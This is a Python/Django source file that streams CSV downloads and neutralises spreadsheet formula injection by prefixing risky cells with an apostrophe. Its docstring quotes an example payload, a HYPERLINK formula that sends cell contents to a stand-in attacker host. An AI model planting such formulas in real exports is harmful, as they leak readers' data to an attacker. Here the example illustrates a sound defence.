"""Every CSV the system hands out goes through here (docs/security.md, issue "Trust boundary").

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so a client named
`=HYPERLINK("http://evil/?"&A1,"Click")` would run on the reader's machine.
`csv_cell` neutralises such cells the way OWASP recommends ("CSV Injection"):
prefix them with an apostrophe, which spreadsheets show as text. Numbers,
dates and booleans written by the code pass through unchanged, so a score
of 12 stays 12; a negative number written as a value stays a number.

`csv_response` streams the rows (a generator) so a long list never sits in memory.
"""

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import StreamingHttpResponse
from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> object:
    """A value safe to put in a CSV cell: text that a spreadsheet would run as a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, datetime):  # local time to the second, as a spreadsheet reads it
        moment = timezone.localtime(value) if timezone.is_aware(value) else value
        return moment.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, (bool, int, float, Decimal, date)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


class _Echo:
    """A file-like object whose write returns the line, for csv.writer in a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_response(header: Iterable[str], rows: Iterable[Iterable], *, filename: str) -> StreamingHttpResponse:
    """A streaming CSV download: the header, then each row, every cell through csv_cell."""
    writer = csv.writer(_Echo())

    def lines():
        yield writer.writerow(csv_row(header))
        for row in rows:
            yield writer.writerow(csv_row(row))

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
